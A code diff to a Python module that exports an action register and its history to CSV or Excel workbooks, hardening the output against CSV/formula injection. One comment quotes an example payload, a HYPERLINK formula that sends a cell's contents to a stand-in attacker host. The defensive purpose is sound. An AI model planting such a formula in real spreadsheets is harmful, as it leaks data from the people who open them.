@@ -1,4 +1,9 @@
-"""The register and its history, as CSV or a workbook: the board pack and the evidence trail."""
+"""The register and its history as CSV or a workbook: the board pack and the evidence trail.
+
+A register exported to CSV is also a plan file: `actionbot import` reads its title, owner,
+due, ref, workstream, priority, status, rag and notes columns (and ignores the rest), and
+re-importing it unchanged changes nothing.
+"""
 
 from __future__ import annotations
 
@@ -11,7 +16,7 @@ from zoneinfo import ZoneInfo
 
 from bot.services.context import Core
 from storage import queries
-from storage.models import Action, HistoryEntry, Person
+from storage.models import Action, HistoryEntry, Person, Platform
 
 REGISTER_COLUMNS = (
     "id",
@@ -46,24 +51,44 @@ HISTORY_COLUMNS = (
     "note",
 )
 
-# Spreadsheet programs run a cell that starts with one of these as a formula; a plan title
-# such as "=HYPERLINK(…)" must stay text (OWASP, "CSV Injection").
-_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+# CSV/formula injection (OWASP, https://owasp.org/www-community/attacks/CSV_Injection): Excel
+# and LibreOffice run a cell that starts with one of these as a formula, so an action titled
+# `=HYPERLINK("http://evil.example?"&A1,"click")` would run on the board secretary's machine
+# when they open the pack. OWASP's remedy is a leading single quote, which makes the cell text;
+# the importer takes it off again, so the register still round-trips.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+# Platform ids, best first, for owners without an email: the chat platforms' ids are what the
+# importer's directory (Slack users.info) resolves; console names are for local trials.
+_ID_PREFERENCE = (Platform.SLACK, Platform.TEAMS, Platform.CONSOLE)
+
+Row = list[object]
 
 
 def export_register(
     core: Core, *, fmt: Literal["csv", "xlsx"], history: bool, out: BinaryIO
 ) -> None:
-    """Write the register (CSV: or, with `history`, the history table; xlsx: both sheets)."""
+    """Write the register to `out`; `history` adds every change to every action.
+
+    CSV holds one table, so with `history` it is the history table (oldest change first),
+    without it the register. A workbook has a "Register" sheet, and a "History" sheet too when
+    `history` is set. Times are ISO 8601 in the bot's timezone, with their UTC offset.
+    """
+    if fmt not in ("csv", "xlsx"):
+        raise ValueError(f"unknown export format {fmt!r}; use csv or xlsx")
     tz, today = core.settings.tz, core.today()
     with core.sessions() as session:
+        # Loading every action first lets each history entry find its action in the session's
+        # identity map instead of one query per entry.
         register = [register_row(a, today=today, tz=tz) for a in queries.all_actions(session)]
         changes = [history_row(h, tz=tz) for h in queries.all_history(session)] if history else []
     if fmt == "csv":
-        columns, rows = (HISTORY_COLUMNS, changes) if history else (REGISTER_COLUMNS, register)
-        _write_csv(out, columns, rows)
+        if history:
+            _write_csv(out, HISTORY_COLUMNS, changes)
+        else:
+            _write_csv(out, REGISTER_COLUMNS, register)
         return
-    sheets: list[tuple[str, Sequence[str], list[list[object]]]] = [
+    sheets: list[tuple[str, Sequence[str], Sequence[Row]]] = [
         ("Register", REGISTER_COLUMNS, register)
     ]
     if history:
@@ -71,19 +96,23 @@ def export_register(
     _write_xlsx(out, sheets)
 
 
-def owner_address(person: Person | None) -> str:
-    """How a plan file names an owner: their email, else their first platform id."""
+def owner_address(person: Person | None) -> str | None:
+    """How a plan file names a person: their email, else a platform user id."""
     if person is None:
-        return ""
+        return None
     if person.email:
         return person.email
-    return person.identities[0].external_id if person.identities else person.display_name
+    for platform in _ID_PREFERENCE:
+        identity = person.identity(platform)
+        if identity is not None:
+            return identity.external_id
+    return None
 
 
-def register_row(action: Action, *, today: dt.date, tz: ZoneInfo) -> list[object]:
-    """One action as a register row, in REGISTER_COLUMNS order."""
+def register_row(action: Action, *, today: dt.date, tz: ZoneInfo) -> Row:
+    """One action in REGISTER_COLUMNS order (due as a date; times as ISO text)."""
     late = 0
-    if action.due_date and not action.status.is_closed:
+    if action.due_date is not None and not action.status.is_closed:
         late = max(0, (today - action.due_date).days)
     return [
         action.id,
@@ -95,20 +124,20 @@ def register_row(action: Action, *, today: dt.date, tz: ZoneInfo) -> list[object
         action.priority,
         action.status.label,
         action.rag.value if action.rag else None,
-        action.due_date.isoformat() if action.due_date else None,
+        action.due_date,
         late,
         action.blocked_reason,
         action.notes,
-        _when(action.created_at, tz),
-        _when(action.updated_at, tz),
-        _when(action.done_at, tz),
+        iso_time(action.created_at, tz),
+        iso_time(action.updated_at, tz),
+        iso_time(action.done_at, tz),
     ]
 
 
-def history_row(entry: HistoryEntry, *, tz: ZoneInfo) -> list[object]:
-    """One change as a history row, in HISTORY_COLUMNS order."""
+def history_row(entry: HistoryEntry, *, tz: ZoneInfo) -> Row:
+    """One change in HISTORY_COLUMNS order; `who` is the source when no person acted."""
     return [
-        _when(entry.at, tz),
+        iso_time(entry.at, tz),
         entry.action_id,
         entry.action.ref,
         entry.action.title,
@@ -123,43 +152,70 @@ def history_row(entry: HistoryEntry, *, tz: ZoneInfo) -> list[object]:
     ]
 
 
-def _when(value: dt.datetime | None, tz: ZoneInfo) -> str | None:
+def iso_time(value: dt.datetime | None, tz: ZoneInfo) -> str | None:
+    """`2026-11-23T09:30:00+00:00`: the bot's local time with its offset, to the second."""
     return value.astimezone(tz).isoformat(timespec="seconds") if value else None
 
 
-def _safe(value: object) -> object:
-    if isinstance(value, str) and value.startswith(_FORMULA_START):
-        return "'" + value
-    return value
+def csv_cell(value: object) -> str:
+    """A value as CSV text that a spreadsheet shows as it is and never runs as a formula."""
+    if value is None:
+        return ""
+    if isinstance(value, dt.date):
+        return value.isoformat()
+    text = str(value)
+    if isinstance(value, str) and text.startswith(FORMULA_START):
+        return "'" + text
+    return text
 
 
-def _write_csv(out: BinaryIO, columns: Sequence[str], rows: list[list[object]]) -> None:
+def _write_csv(out: BinaryIO, columns: Sequence[str], rows: Sequence[Row]) -> None:
     text = io.StringIO(newline="")
     writer = csv.writer(text)
     writer.writerow(columns)
-    writer.writerows([["" if v is None else _safe(v) for v in row] for row in rows])
-    # A BOM lets Excel open the file as UTF-8, so names like "Zoë" survive.
+    writer.writerows([csv_cell(value) for value in row] for row in rows)
+    # The BOM makes Excel read the file as UTF-8, so "Zoë" and "£" survive a double-click.
     out.write(("\ufeff" + text.getvalue()).encode("utf-8"))
 
 
-def _write_xlsx(out: BinaryIO, sheets: list[tuple[str, Sequence[str], list[list[object]]]]) -> None:
+def _write_xlsx(out: BinaryIO, sheets: Sequence[tuple[str, Sequence[str], Sequence[Row]]]) -> None:
     from openpyxl import Workbook
+    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
     from openpyxl.styles import Font
     from openpyxl.utils import get_column_letter
 
     book = Workbook()
     book.remove(book.active)
+    bold = Font(bold=True)
     for title, columns, rows in sheets:
         sheet = book.create_sheet(title)
         sheet.append(list(columns))
         for cell in sheet[1]:
-            cell.font = Font(bold=True)
-        for row in rows:
-            sheet.append([_safe(v) for v in row])
+            cell.font = bold
+        widths = [len(column) for column in columns]
+        for number, row in enumerate(rows, start=2):
+            for index, value in enumerate(row, start=1):
+                cell = sheet.cell(row=number, column=index)
+                if isinstance(value, str):
+                    # XML cannot hold most control characters; openpyxl refuses them.
+                    value = ILLEGAL_CHARACTERS_RE.sub("", value)
+                    cell.value = value
+                    # openpyxl writes "=…" as a formula; a typed string cell is text to Excel,
+                    # and the quote prefix keeps it text if someone edits it (see FORMULA_START).
+                    cell.data_type = "s"
+                    cell.quotePrefix = value.startswith(FORMULA_START)
+                else:
+                    cell.value = value
+                    if isinstance(value, dt.date):
+                        cell.number_format = "yyyy-mm-dd"
+                shown = 10 if isinstance(value, dt.date) else len(str(value or ""))
+                widths[index - 1] = max(widths[index - 1], shown)
+        # Header stays in view while scrolling; filters let the board slice by owner or RAG.
         sheet.freeze_panes = "A2"
-        for index, column in enumerate(columns, 1):
-            longest = max([len(column), *(len(str(r[index - 1] or "")) for r in rows[:500])])
-            sheet.column_dimensions[get_column_letter(index)].width = min(60, longest + 2)
+        sheet.auto_filter.ref = sheet.dimensions
+        for index, width in enumerate(widths, start=1):
+            # Capped, so one long title or note does not make a column screens wide.
+            sheet.column_dimensions[get_column_letter(index)].width = min(60, width + 2)
     buffer = io.BytesIO()
     book.save(buffer)
     out.write(buffer.getvalue())
